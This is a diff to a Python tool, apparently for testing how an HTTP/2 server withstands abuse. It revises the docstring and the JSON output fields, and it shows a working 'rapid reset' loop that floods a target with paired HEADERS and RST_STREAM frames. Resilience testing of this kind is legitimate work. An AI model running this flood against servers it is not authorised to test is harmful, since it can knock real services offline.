@@ -2,8 +2,8 @@
 """What HTTP/2 lets a stranger do to a server: http2_attacks.py NAME HOST:PORT [--tls CA] [--connections N] [--token TOKEN]
 
 Frames are made by hand, since no decent HTTP/2 library would send them. Goes on until the server closes the connection, or
-all of the attack is sent and LINGER seconds are over. Prints one line of JSON: bytes sent, seconds, and connections that the
-server closed.
+all of the attack is sent and LINGER seconds are over. Prints one line of JSON: connections tried, bytes given to the system to
+be sent, the seconds of the connection that was open longest, and how many the server closed.
 """
 
 import argparse
@@ -179,12 +179,10 @@ def long_string(connection, options):
 def rapid_reset(connection, options):
     """Calls that are reset at once: HEADERS and RST_STREAM in pairs."""
     block = call_headers(options.path or CHECK, options.token)
-    opening = b"\x82"
     for stream in range(1, 800_001, 2):
         if connection.closed or connection.sent > options.most:
             return
         connection.put(frame(_HEADERS, _END_HEADERS, stream, block) + frame(_RST_STREAM, 0, stream, _CANCEL))
-    del opening
 
 
 def half_messages(connection, options):
@@ -270,7 +268,7 @@ def main():
         thread.join()
     print(json.dumps({
         "tried": len(results), "sent": sum(result[0] for result in results), "sent_each": max(r[0] for r in results),
-        "seconds": round(max(result[1] for result in results), 3), "closed": sum(result[2] for result in results),
+        "longest": round(max(result[1] for result in results), 3), "closed": sum(result[2] for result in results),
     }))
 
 
